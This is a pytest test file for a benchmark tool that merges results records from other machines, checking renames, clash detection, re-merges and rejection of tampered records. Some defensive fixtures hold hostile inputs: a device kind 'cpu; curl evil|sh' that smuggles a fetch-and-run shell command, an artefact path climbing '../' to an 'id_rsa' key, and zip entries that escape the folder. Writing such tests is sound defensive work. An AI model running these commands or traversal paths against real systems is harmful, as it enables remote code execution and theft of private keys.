"""Records of other machines come in under their new names; what clashes is refused with the rename that solves it."""

import hashlib
import json
import shutil
import zipfile
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
import synthetic

from whichdevice.base.errors import StudyError
from whichdevice.measure.machine.facts import this_machine
from whichdevice.measure.record import Machine, Record
from whichdevice.study.config.load import load_study, read_study, write_study
from whichdevice.study.config.model import Device, Study
from whichdevice.study.records.store import (
    measured_elsewhere,
    merged_records,
    merged_sources,
    read_record,
    write_record,
)
from whichdevice.study.remote.merge import drop, merge_folder
from whichdevice.study.remote.publish import publish
from whichdevice.study.remote.transfer import Place

ROOT = Path("results/small")
OTHER = Machine(cpu="Other CPU", memory=2**34, operating_system="Linux", identity="bbbb")
STUDY = load_study(synthetic.SMALL)
SECRET = "id_rsa"
KEY = "0123456789ab"


def results(folder: Path, machine: Machine = OTHER, devices: tuple[str, ...] = ("cpu",), **more: Any) -> Path:
    """A results folder of a machine."""
    study = synthetic.small_study(devices={name: Device(kind=name.split("_")[0], **more) for name in devices})
    synthetic.write_study(study, folder, change=lambda run, record: record.model_copy(update={"machine": machine}))
    return folder


def with_keys(folder: Path) -> Path:
    """The same results with each record and its artefacts in a folder of the record's key."""
    for path in list((folder / "runs").rglob("record.json")):
        shutil.move(path.parent, aside := folder / "aside")
        path.parent.mkdir()
        shutil.move(aside, path.parent / KEY)
    return folder


def change(path: Path, **changes: Any) -> None:
    write_record(read_record(path).model_copy(update=changes), path)


def later(record: Record, hours: float = 1) -> dict[str, Any]:
    return {"ended": record.ended + timedelta(hours=hours)}


def tree(folder: Path = ROOT) -> dict[str, tuple[str, int]]:
    """Content and time of every file."""
    files = (path for path in folder.rglob("*") if path.is_file())
    return {str(path): (hashlib.sha256(path.read_bytes()).hexdigest(), path.stat().st_mtime_ns) for path in files}


def records(folder: Path) -> list[Path]:
    return sorted(folder.rglob("record.json"))


@pytest.fixture
def other(working_folder: Path) -> Path:
    """A results folder of another machine."""
    return results(working_folder / "other")


@pytest.mark.parametrize("layout", [lambda folder: folder, with_keys], ids=["plain", "with keys"])
def test_renamed_records_are_of_another_device_with_its_price_and_artefacts(
    working_folder: Path, layout: Callable[[Path], Path]
) -> None:
    layout(results(working_folder / "other", usd_per_hour=0.5, hardware="TPU v2"))
    (line,) = merge_folder(ROOT, "other", {"cpu": "laptop"}, STUDY)
    assert "merged other: 4 records of laptop (cpu there); to undo it: python -m whichdevice merge --drop" in line
    ((folder, source),) = merged_sources(ROOT).items()
    laptop = source.devices["laptop"]
    assert (laptop.name, laptop.kind, laptop.usd_per_hour, laptop.hardware) == ("cpu", "cpu", 0.5, "TPU v2")
    assert laptop.models == ["Other CPU"] and measured_elsewhere(ROOT) == {"laptop"}
    found = merged_records(ROOT)
    assert {run.cell.device for run in found} == {"laptop"} and len(found) == 4
    learned = 0
    for run, path in found.items():
        assert path.is_relative_to(folder / "runs" / run.path) and (KEY in path.parts) == (layout is with_keys)
        record = read_record(path)
        assert record.run == run.path and record.asked.device == "laptop"
        for artefact in record.artefacts.values():
            learned += 1
            content = (path.parent / artefact.file).read_bytes()
            assert hashlib.sha256(content).hexdigest() == artefact.sha256
    assert learned


def test_of_several_keys_of_a_run_the_record_that_ended_last_comes(other: Path) -> None:
    with_keys(other)
    first = records(other)[0]
    newer = first.parents[1] / "ffffffffffff/record.json"
    newer.parent.mkdir()
    shutil.copy(first, newer)
    change(newer, **later(read_record(first)))
    merge_folder(ROOT, other, {"cpu": "laptop"}, STUDY)
    assert [path.parent.name for path in merged_records(ROOT).values()].count("ffffffffffff") == 1
    assert len(records(ROOT)) == 4


@pytest.mark.parametrize("kind", ["folder", "zip", "bucket"])
def test_a_second_merge_reads_and_changes_nothing_and_a_changed_record_comes_alone(
    other: Path, kind: str, request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch
) -> None:
    def source() -> str:
        if kind == "bucket":
            place: Place = request.getfixturevalue("bucket")
            publish(other, place)
            return f"{place.address}/other"
        if kind == "zip":
            with zipfile.ZipFile("other.zip", "w") as archive:
                for path in other.rglob("*"):
                    archive.write(path, path.relative_to(other))
        return "other.zip" if kind == "zip" else "other"

    merge_folder(ROOT, source(), {"cpu": "laptop"}, STUDY)
    before = tree()
    assert len(merged_records(ROOT)) == 4
    with monkeypatch.context() as patch:
        reader = "whichdevice.study.remote.merge.foreign_record"
        patch.setattr(reader, lambda *_: pytest.fail("a record was read again"))
        (line,) = merge_folder(ROOT, source(), {}, STUDY)  # the names of the last merge
    assert "nothing new" in line and tree() == before
    first = records(other)[0]
    change(first, **later(read_record(first)), reason="again")
    merge_folder(ROOT, source(), {}, STUDY)
    changed = {name for name, facts in tree().items() if before.get(name) != facts}
    assert len(changed) == 2 and sum(name.endswith("source.json") for name in changed) == 1


def test_an_earlier_record_of_the_source_replaces_no_later_one_and_a_removed_one_leaves(other: Path) -> None:
    merge_folder(ROOT, other, {"cpu": "laptop"}, STUDY)
    first, second, *_ = records(other)
    change(first, **later(read_record(first), -1), reason="earlier")
    second.unlink()
    merge_folder(ROOT, other, {}, STUDY)
    assert len(records(ROOT)) == 3 == len(merged_records(ROOT))
    assert all(read_record(path).reason != "earlier" for path in records(ROOT))


def test_a_merge_that_stops_changes_nothing(other: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    merge_folder(ROOT, other, {"cpu": "laptop"}, STUDY)
    before = tree()
    for path in records(other):
        change(path, **later(read_record(path)))
    read, seen = Place.read, []

    def breaks(place: Place, name: str) -> bytes:
        seen.append(name)
        if len(seen) > 2:
            raise ConnectionResetError
        return read(place, name)

    monkeypatch.setattr(Place, "read", breaks)
    with pytest.raises(StudyError, match="connection broke"):
        merge_folder(ROOT, other, {}, STUDY)
    assert tree() == before


def test_a_dropped_source_leaves_with_the_devices_that_it_brought(other: Path) -> None:
    merge_folder(ROOT, other, {"cpu": "laptop"}, STUDY)
    devices = {"cpu": Device(kind="cpu"), "laptop": Device(kind="cpu")}
    write_study(synthetic.small_study(devices=devices), ROOT / "config.yaml")
    (folder,) = merged_sources(ROOT)
    with pytest.raises(StudyError, match=rf"no merged source nowhere; there are {folder.name}"):
        drop(ROOT, "nowhere")
    drop(ROOT, folder.name)
    assert not (ROOT / "merged").exists()
    assert set(read_study(ROOT / "config.yaml").devices) == {"cpu"}


def test_a_run_that_this_machine_would_measure_too_needs_another_name(other: Path) -> None:
    line = r"merge: cpu of other was measured on another machine .*; give it another name: --rename cpu=cpu_2$"
    with pytest.raises(StudyError, match=line):
        merge_folder(ROOT, "other", {}, STUDY)
    assert not (ROOT / "merged").exists()
    merge_folder(ROOT, "other", {}, STUDY.model_copy(update={"run_on": "all"}))  # a scheduler's machines


def test_records_of_this_very_machine_need_no_other_name(working_folder: Path) -> None:
    results(working_folder / "other", machine=this_machine())
    merge_folder(ROOT, "other", {}, STUDY)
    assert {run.cell.device for run in merged_records(ROOT)} == {"cpu"} and measured_elsewhere(ROOT) == set()


def test_two_sources_with_one_name_clash_unless_they_are_of_one_machine(other: Path) -> None:
    shutil.copytree(other, "copy")
    first = records(Path("copy"))[0]
    change(first, **later(read_record(first)))
    for source in ("other", "copy"):
        merge_folder(ROOT, source, {"cpu": "laptop"}, STUDY)
    ends = {read_record(path).ended for path in merged_records(ROOT).values()}
    assert read_record(first).ended in ends  # of one run the later record counts
    results(Path("third"), machine=OTHER.model_copy(update={"identity": "cccc"}))
    with pytest.raises(StudyError, match=r"laptop of third was measured on another machine .* --rename cpu=cpu_2"):
        merge_folder(ROOT, "third", {"cpu": "laptop"}, STUDY)


def test_two_models_of_one_name_clash_though_they_have_no_run_in_common(working_folder: Path) -> None:
    for name, size in (("one", 256), ("two", 1024)):
        machine = OTHER.model_copy(update={"device_name": f"GPU {name}"})
        shutil.rmtree(
            results(working_folder / name, machine, ("gpu",)) / f"runs/gpu/mnist_cnn/tensorflow-float32-b{size}"
        )
    merge_folder(ROOT, "one", {}, STUDY)
    with pytest.raises(StudyError, match=r"gpu of two is GPU two there and GPU one in another source; .*gpu=gpu_2"):
        merge_folder(ROOT, "two", {}, STUDY)


@pytest.mark.parametrize(
    ("here", "line"),
    [
        ({"kind": "gpu"}, "has kind tpu there and gpu here"),
        ({"kind": "tpu", "replicas": 8}, "has replicas 1 there and 8 here"),
        ({"kind": "tpu", "hardware": "TPU v5e"}, "has hardware TPU v2 there and TPU v5e here"),
    ],
)
def test_a_device_that_is_another_one_here_is_refused(working_folder: Path, here: dict[str, Any], line: str) -> None:
    results(working_folder / "other", devices=("tpu",), hardware="TPU v2")
    study = Study.model_validate({**synthetic.SMALL, "devices": {"cpu": {"kind": "cpu"}, "tpu": here}})
    with pytest.raises(StudyError, match=f"merge: tpu of other {line}; give it another name: --rename tpu=tpu_2"):
        merge_folder(ROOT, "other", {}, study)


def test_a_source_that_merged_others_brings_their_records_and_none_that_it_dropped(other: Path) -> None:
    results(Path("third"), devices=("gpu",))
    for source, rename in (("other", {"cpu": "laptop"}), ("third", {})):
        merge_folder(Path("results/between"), source, rename, STUDY)
    merge_folder(ROOT, "results/between", {}, STUDY)
    assert {run.cell.device for run in merged_records(ROOT)} == {"laptop", "gpu"}
    dropped = next(
        folder.name for folder, source in merged_sources(Path("results/between")).items() if "gpu" in source.devices
    )
    drop(Path("results/between"), dropped)
    merge_folder(ROOT, "results/between", {}, STUDY)
    assert {run.cell.device for run in merged_records(ROOT)} == {"laptop"}


@pytest.mark.parametrize(
    ("source", "rename", "line"),
    [
        ("gone", {}, r"merge: no record\.json of a run below gone"),
        ("other", {"gpu": "x"}, "merge: rename: other has no device gpu; did you mean cpu?"),
        ("both", {"cpu": "box", "gpu": "box"}, "merge: both: after renaming, box is two devices; rename both apart"),
    ],
)
def test_a_wrong_call_is_one_line(other: Path, source: str, rename: dict[str, str], line: str) -> None:
    results(Path("both"), devices=("cpu", "gpu"))
    with pytest.raises(StudyError, match=line):
        merge_folder(ROOT, source, rename, STUDY)


def _outside(content: dict[str, Any], path: Path) -> None:
    content["artefacts"] = {"predictions": {"file": "../" * len(path.parts) + SECRET, "sha256": "0"}}


def _another_run(content: dict[str, Any], path: Path) -> None:
    content["run"] = content["run"].replace("/r1", "/r7")


def _another_device(content: dict[str, Any], path: Path) -> None:
    content["run"] = content["run"].replace("cpu/", "laptop/", 1)
    content["asked"]["device"] = "laptop"


def _no_kind(content: dict[str, Any], path: Path) -> None:
    content["asked"]["kind"] = "cpu; curl evil|sh"


@pytest.mark.parametrize(
    ("lie", "reason"),
    [
        (_outside, "artefact 'predictions' is no file beside the record"),
        (_another_run, "says that it is of another run than its path"),
        (_another_device, "says that it is of another run than its path"),
        (_no_kind, "is no kind of device"),
    ],
)
def test_an_edited_record_is_refused_with_the_reason_and_nothing_of_it_comes(
    other: Path, lie: Callable[[dict[str, Any], Path], None], reason: str
) -> None:
    for folder in (other.parent, other.parents[1]):
        (folder / SECRET).write_text("secret")
    first = records(other)[0]
    content = json.loads(first.read_text())
    lie(content, first)
    first.write_text(json.dumps(content))
    merge_folder(ROOT, "other", {"cpu": "laptop"}, STUDY)
    before, bad = tree(), []
    for path in merged_records(ROOT).values():
        try:
            read_record(path)
        except StudyError as error:
            bad.append(str(error))
    assert len(bad) == 1 and reason in bad[0]
    assert not any(b"secret" in path.read_bytes() for path in ROOT.rglob("*") if path.is_file())
    assert "nothing new" in merge_folder(ROOT, "other", {}, STUDY)[0] and tree() == before


def test_an_artefact_that_is_not_what_its_record_says_stays_away(other: Path) -> None:
    learned = next(path for path in records(other) if read_record(path).artefacts)
    name, artefact = next(iter(read_record(learned).artefacts.items()))
    (learned.parent / artefact.file).write_bytes(b"something else")
    merge_folder(ROOT, "other", {"cpu": "laptop"}, STUDY)
    here = next(
        path
        for path in merged_records(ROOT).values()
        if str(path).endswith(str(learned.relative_to(other / "runs/cpu")))
    )
    assert name in read_record(here).artefacts and not (here.parent / artefact.file).exists()


def test_a_name_that_leads_out_of_the_results_is_not_read(other: Path) -> None:
    record = records(other)[0]
    run = record.relative_to(other / "runs").as_posix()
    with zipfile.ZipFile("odd.zip", "w") as archive:
        for name in (f"runs/{run}", f"runs/../../../out/{run}", f"merged/../../../away/{run}"):
            archive.writestr(name, record.read_bytes())
    merge_folder(ROOT, "odd.zip", {"cpu": "laptop"}, STUDY)
    assert len(merged_records(ROOT)) == 1
    assert not list(other.parents[1].glob("out")) and not list(other.parent.glob("away"))


def test_without_a_study_a_merge_takes_the_config_of_the_results_folder(other: Path) -> None:
    write_study(synthetic.small_study(), ROOT / "config.yaml")
    with pytest.raises(StudyError, match="--rename cpu=cpu_2"):
        merge_folder(ROOT, "other", {})
